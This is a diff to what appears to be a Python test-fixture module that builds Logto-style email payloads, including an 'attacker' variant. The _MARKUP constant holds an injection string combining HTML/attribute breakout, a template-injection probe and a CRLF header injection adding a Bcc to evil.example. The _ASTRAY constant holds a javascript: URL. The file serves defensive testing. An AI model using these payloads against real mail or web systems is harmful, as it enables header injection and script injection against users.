@@ -1,4 +1,4 @@
-"""What mails are tried with: payloads as Logto sends them, full, minimal, all null, and as an attacker would fill them."""
+"""What mails are tried with: payloads as Logto sends them, full, minimal and null, and as an attacker fills them."""
 
 from collections.abc import Mapping
 from enum import StrEnum
@@ -92,7 +92,8 @@ def payload(kind: str, sample: Sample, language: str) -> dict[str, Any]:
         return whole
     if sample is Sample.NULL:
         return {key: _empty(value) for key, value in whole.items()} | _minimal(kind)
-    return _poisoned(whole, "") | {key: value for key, value in _minimal(kind).items() if key != "organization"}
+    poisoned = {key: _poisoned(value, key) for key, value in whole.items()}
+    return poisoned | {key: value for key, value in _minimal(kind).items() if key != "organization"}
 
 
 def _minimal(kind: str) -> dict[str, Any]:
@@ -117,7 +118,9 @@ def _empty(value: Any) -> Any:
     return {key: _empty(item) for key, item in value.items()} if isinstance(value, Mapping) else None
 
 
-_MARKUP: Final = f"\"'><{PROBE} on{PROBE}='1'></{PROBE}> --></style>;{PROBE}:1; {{{{7*7}}}}\r\nBcc: {PROBE}@evil.example\0"
+_MARKUP: Final = (
+    f"\"'><{PROBE} on{PROBE}='1'></{PROBE}> --></style>;{PROBE}:1; {{{{7*7}}}}\r\nBcc: {PROBE}@evil.example\0"
+)
 _ASTRAY: Final = f"javascript:'{PROBE}'"
 
 
